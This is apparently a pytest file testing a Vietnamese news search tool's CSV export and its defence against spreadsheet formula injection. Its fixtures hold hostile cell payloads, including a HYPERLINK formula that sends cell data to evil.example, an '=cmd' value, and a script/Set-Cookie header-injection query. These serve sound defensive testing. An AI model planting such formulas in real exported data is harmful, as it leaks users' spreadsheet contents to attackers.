"""CSV export (``vnsearch search --format csv``, ``GET /api/search.csv``): the answer set, for a spreadsheet.

A researcher opens the file in Excel or LibreOffice: the Vietnamese must read
right (UTF-8 with a byte-order mark), and a scraped title must never run as a
formula there (OWASP's "CSV Injection").
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import CORPUS, SAMPLE
from fastapi.testclient import TestClient

from indexer import build_index
from search.cli import main
from search.format import CSV_COLUMNS, csv_cell
from search.web import CSVResponse, create_app

BOM = b"\xef\xbb\xbf"
#: Titles as a hostile or careless scraper may keep them: each would run in a spreadsheet as typed.
FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"Xem chi tiết: lũ quét ở Thanh Hóa")',
            "+84 lũ quét Thanh Hóa", "-2+3 lũ quét Thanh Hóa", "@SUM(1+1) lũ quét Thanh Hóa",
            "\t=1+1 lũ quét Thanh Hóa", "  =1+1 lũ quét Thanh Hóa", "＝1+1 lũ quét Thanh Hóa"]


@pytest.fixture(scope="module")
def index_dir(tmp_path_factory) -> Path:
    """The seeds, the devset sample, and a real lead under each hostile title."""
    lead = next(r for r in map(json.loads, SAMPLE.read_text(encoding="utf-8").splitlines()) if r.get("title"))
    folder = tmp_path_factory.mktemp("export")
    feed = folder / "formulas.jsonl"
    records = [{"id": f"cong-thuc-{n}", "title": title, "source": lead["source"], "published": f"2021-09-{n + 1:02d}",
                "body": lead["body"] + " Lũ quét ở huyện Mường Lát, tỉnh Thanh Hóa."}
               for n, title in enumerate(FORMULAS)]
    feed.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), encoding="utf-8")
    assert build_index([CORPUS, SAMPLE, feed], folder / "index", jobs=2).skipped == 0
    return folder / "index"


def cli(index_dir: Path, *args: str):
    result = CliRunner().invoke(main, ["search", *args, "--index", str(index_dir)])
    assert result.exit_code == 0, result.output
    return result


def rows(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(BOM)  # Excel reads UTF-8 only with it
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert tuple(table[0]) == CSV_COLUMNS
    return [dict(zip(table[0], row, strict=True)) for row in table[1:]]


def answer_ids(index_dir: Path, *args: str) -> list[str]:
    """The answer set's ids in rank order, as the JSON output lists them (the partial matches after them left out)."""
    data = json.loads(cli(index_dir, *args, "--json").stdout)
    return [h["id"] for h in data["hits"][:data["total"]]]


def test_csv_is_the_answer_set_in_rank_order(index_dir) -> None:
    args = ("đảng viên Thủ Dầu Một", "-n", "20")
    data = json.loads(cli(index_dir, *args, "--json").stdout)
    assert data["total"] == 1 and len(data["hits"]) > 1  # partial matches follow in the JSON ...
    table = rows(cli(index_dir, *args, "--format", "csv").stdout_bytes)
    assert [r["id"] for r in table] == ["000_13d84c9b41a19287.txt"]  # ... not in the CSV
    tdm = table[0]
    assert tdm["title"] == "Đảng bộ Tp.Thủ Dầu Một: 5 năm liền trong sạch, vững mạnh tiêu biểu"
    assert tdm["published"] == data["hits"][0]["published"] and tdm["published"].startswith("2020-06-22")
    assert (tdm["provinces"], tdm["districts"]) == ("Bình Dương", "Thủ Dầu Một")
    assert tdm["terms"] == "; ".join(data["hits"][0]["terms"]) and tdm["terms"].count("; ") >= 2
    assert float(tdm["score"]) == data["hits"][0]["score"]
    many = rows(cli(index_dir, "dang vien", "--format", "csv").stdout_bytes)
    assert [r["id"] for r in many] == answer_ids(index_dir, "dang vien", "-n", "50") and len(many) == 5


def test_csv_writes_the_whole_answer_set_by_default_and_up_to_ten_thousand_rows(index_dir) -> None:
    everything = answer_ids(index_dir, "", "--since", "1990", "-n", "100")
    assert len(everything) > 10  # more than a page of the other formats
    assert [r["id"] for r in rows(cli(index_dir, "", "--since", "1990", "--format", "csv").stdout_bytes)] == everything
    some = rows(cli(index_dir, "", "--since", "1990", "--format", "csv", "-n", "3", "--offset", "2").stdout_bytes)
    assert [r["id"] for r in some] == everything[2:5]
    assert CliRunner().invoke(main, ["search", "đảng", "--index", str(index_dir), "--format", "csv",
                                     "-n", "10000"]).exit_code == 0
    too_many = CliRunner().invoke(main, ["search", "đảng", "--index", str(index_dir), "--format", "csv",
                                         "-n", "10001"])
    assert too_many.exit_code == 2 and "--limit" in too_many.output
    # a page for people stays at most 1,000 hits
    page = CliRunner().invoke(main, ["search", "đảng", "--index", str(index_dir), "-n", "1001"])
    assert page.exit_code == 2 and "at most 1,000 hits" in page.output and "--format csv" in page.output


def test_a_cell_that_would_run_as_a_formula_is_text(index_dir) -> None:
    table = {r["id"]: r for r in rows(cli(index_dir, '"lũ quét"', "--format", "csv").stdout_bytes)}
    assert {f"cong-thuc-{n}" for n in range(len(FORMULAS))} <= set(table)
    for n, title in enumerate(FORMULAS):
        cell = table[f"cong-thuc-{n}"]["title"]
        assert cell.startswith("'"), cell  # a spreadsheet shows it and runs nothing
        assert cell[1:].strip() == title.strip()  # the reader stores titles stripped; the text is kept whole
    ordinary = rows(cli(index_dir, "Thanh Hóa", "--format", "csv").stdout_bytes)
    assert {r["id"] for r in ordinary} > set(table)
    assert all(r["title"].startswith("'") == r["id"].startswith("cong-thuc") for r in ordinary)


@pytest.mark.parametrize("value, cell", [
    ('=HYPERLINK("http://evil.example","Bấm")', '\'=HYPERLINK("http://evil.example","Bấm")'),
    ("+1", "'+1"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("   =1", "'   =1"), ("＝1+1", "'＝1+1"),
    ("Thủ Dầu Một", "Thủ Dầu Một"), ("Thu = 1", "Thu = 1"), ("", ""), (None, ""),
    (["Bình Dương", "Hồ Chí Minh"], "Bình Dương; Hồ Chí Minh"), (["=cmd", "An Giang"], "'=cmd; An Giang"),
])
def test_csv_cell(value, cell) -> None:
    assert csv_cell(value) == cell


@pytest.fixture(scope="module")
def client(index_dir):
    with TestClient(create_app(index_dir)) as c:
        yield c


def test_the_api_writes_what_the_command_writes(client, index_dir) -> None:
    for params, options in [({"q": "đảng viên"}, []), ({"q": "dang vien", "province": "An Giang"},
                                                           ["--province", "An Giang"]),
                            ({"q": "", "since": "2021", "sort": "date", "limit": "4"},
                             ["--since", "2021", "--sort", "date", "-n", "4"]),
                            ({"q": '"lũ quét"'}, [])]:
        response = client.get("/api/search.csv", params=params)
        assert response.status_code == 200
        assert response.content == cli(index_dir, params["q"], *options, "--format", "csv").stdout_bytes
        assert rows(response.content)


def test_the_api_sends_a_file_to_download_streamed(client) -> None:
    response = client.get("/api/search.csv", params={"q": "Thủ Dầu Một", "province": "Bình Dương"})
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="vnsearch-thu-dau-mot-binh-duong.csv"'
    assert "content-length" not in response.headers  # streamed: the length is not known up front
    assert [r["id"] for r in rows(response.content)] == ["000_13d84c9b41a19287.txt"]
    unnamed = client.get("/api/search.csv", params={"q": "", "since": "2021"})
    assert unnamed.headers["content-disposition"] == 'attachment; filename="vnsearch-2021.csv"'
    hostile = client.get("/api/search.csv", params={"q": '"><script>\r\nSet-Cookie: x=1'})
    assert hostile.headers["content-disposition"] == 'attachment; filename="vnsearch-script-set-cookie-x-1.csv"'
    from search.web import router

    route = next(r for r in router.routes if getattr(r, "path", "") == "/api/search.csv")
    assert issubclass(route.response_class, CSVResponse)


def test_the_api_takes_up_to_ten_thousand_rows_and_refuses_more(client) -> None:
    everything = rows(client.get("/api/search.csv", params={"q": "", "since": "1990"}).content)
    assert len(everything) > 10  # the whole answer set by default, not a page of it
    assert client.get("/api/search.csv", params={"q": "đảng", "limit": 10_000}).status_code == 200
    for params, name in [({"limit": 10_001}, "limit"), ({"limit": 0}, "limit"), ({"offset": 10_001}, "offset"),
                         ({"since": "hôm qua"}, "since"), ({"year": "20"}, "year")]:
        response = client.get("/api/search.csv", params={"q": "đảng", **params})
        assert response.status_code == 422 and response.json()["detail"][0]["loc"] == ["query", name]


def test_the_docs_say_what_the_csv_holds(client) -> None:
    page = client.get("/docs").text
    section = page.split('id="get-api-search.csv"')[1].split("</section>")[0]
    assert "text/csv" in section and "byte-order mark" in section and "formula" in section
    assert "<code>limit</code>" in section and "10.000" in section


def test_the_source_column_is_the_article_source(index_dir) -> None:
    table = rows(cli(index_dir, "", "--since", "1990", "--format", "csv").stdout_bytes)
    shown = {r["id"]: json.loads(cli_show(index_dir, r["id"]))["source"] or "" for r in table}
    assert [r["source"] for r in table] == [shown[r["id"]] for r in table]
    assert "dantri.com.vn" in shown.values()


def cli_show(index_dir: Path, doc_id: str) -> str:
    result = CliRunner().invoke(main, ["show", doc_id, "--index", str(index_dir), "--json"])
    assert result.exit_code == 0, result.output
    return result.stdout
